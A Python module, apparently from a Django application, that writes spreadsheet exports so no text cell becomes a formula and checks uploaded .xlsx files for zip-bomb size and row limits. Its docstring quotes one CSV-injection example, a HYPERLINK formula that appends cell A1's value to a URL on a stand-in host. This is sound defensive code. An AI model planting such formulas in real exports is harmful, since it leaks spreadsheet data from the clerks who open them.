"""Spreadsheets in and out: exports whose text is never run as a formula, and uploads read under guard.

openpyxl stores any string starting with "=" as a formula, so a catalog entry named
`=HYPERLINK("http://x/?"&A1,"点此")`, or a column comment a probed database carries, would become a live
formula in an export a clerk opens (OWASP "CSV injection"). Every text cell written by the domain's exports
goes through `row_cells`: strings are stored as strings, with the characters XML cannot hold removed and
the length cut to what one cell holds.

Every importer opens an upload with `open_workbook` (or `open_first_sheet`) and walks it with `data_rows`,
so each gets the same refusal of a file that is not an .xlsx, unpacks too large, or holds too many rows,
and reports problems as `RowError`s a clerk can find in the file.
"""

import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import IO, Any

from django.utils.translation import gettext as _
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils.exceptions import InvalidFileException
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

MAX_CELL_CHARS = 32_767  # Excel's limit per cell
# An .xlsx is a zip: a 20 MB upload can unpack to gigabytes. Its central directory declares each member's
# size and Python's zipfile never inflates a member past it, so summing the declared sizes bounds the work.
MAX_UNZIPPED_BYTES = 100 * 1024 * 1024
MAX_ROWS = 100_000  # data rows per sheet


def cell_text(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)[:MAX_CELL_CHARS]


def row_cells(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """The row for `sheet.append`: text as literal text cells, other values as they are."""
    cells: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=cell_text(value))  # type: ignore[arg-type]
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(value)
    return cells


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with no text cell ever a formula."""
    sheet.append(row_cells(sheet, values))


# -- reading uploads -------------------------------------------------------------------------------


@dataclass(frozen=True)
class RowError:
    """One problem of an uploaded workbook, placed where the clerk finds it in the file."""

    row: int  # as Excel numbers it; 0 for the sheet or file as a whole
    column: str
    message: str
    sheet: str = ""  # named by importers that read several sheets

    def __str__(self) -> str:
        line = _("第 %(row)s 行") % {"row": self.row} if self.row else ""
        where = f"{self.sheet} {line}".strip() if self.sheet else line or _("文件")
        return f"{where} {self.column}: {self.message}" if self.column else f"{where}: {self.message}"


class WorkbookUnreadable(Exception):
    """The upload is refused as a whole before any row is read; `message` says why."""

    def __init__(self, message: str) -> None:
        super().__init__(message)
        self.message = message


class TooManyRows(Exception):
    """A sheet holds more than MAX_ROWS data rows; `row` is the first one over the limit."""

    def __init__(self, row: int) -> None:
        self.row = row
        self.message = _("超过 %(max)s 行数据，请分成几个文件导入") % {"max": f"{MAX_ROWS:,}"}
        super().__init__(self.message)


def _check_unzipped_size(file: IO[bytes]) -> None:
    try:
        with zipfile.ZipFile(file) as archive:
            size = sum(member.file_size for member in archive.infolist())
    except (zipfile.BadZipFile, OSError):
        raise WorkbookUnreadable(_("不是有效的 .xlsx 文件")) from None
    finally:
        file.seek(0)
    if size > MAX_UNZIPPED_BYTES:
        message = _("解压后超过 %(max)s MB，无法导入；请删去无关的工作表、图片或分成几个文件") % {
            "max": MAX_UNZIPPED_BYTES // (1024 * 1024)
        }
        raise WorkbookUnreadable(message)


def open_workbook(file: IO[bytes], *, data_only: bool = True) -> Any:
    """The uploaded workbook, read-only; raises WorkbookUnreadable for a non-.xlsx or one unpacking too large."""
    _check_unzipped_size(file)
    try:
        return load_workbook(file, read_only=True, data_only=data_only)
    except (InvalidFileException, zipfile.BadZipFile, KeyError, OSError):
        raise WorkbookUnreadable(_("不是有效的 .xlsx 文件")) from None


def open_first_sheet(file: IO[bytes], *, data_only: bool = True) -> Any:
    """The first sheet of the uploaded workbook, guarded like `open_workbook`."""
    book = open_workbook(file, data_only=data_only)
    if not book.worksheets:
        raise WorkbookUnreadable(_("不是有效的 .xlsx 文件"))
    return book.worksheets[0]


def blank_cell(value: Any) -> bool:
    return value is None or (isinstance(value, str) and not value.strip())


def data_rows(
    rows: Iterable[tuple[Any, ...]], *, is_blank: Callable[[Any], bool] = blank_cell
) -> Iterator[tuple[int, tuple[Any, ...]]]:
    """The rows under the header that hold data, numbered as Excel shows them (the first is 2).

    Raises TooManyRows at the first data row over MAX_ROWS, so a huge sheet is not read to its end.
    """
    filled = 0
    for number, cells in enumerate(rows, start=2):
        if all(is_blank(cell) for cell in cells):
            continue
        filled += 1
        if filled > MAX_ROWS:
            raise TooManyRows(number)
        yield number, cells
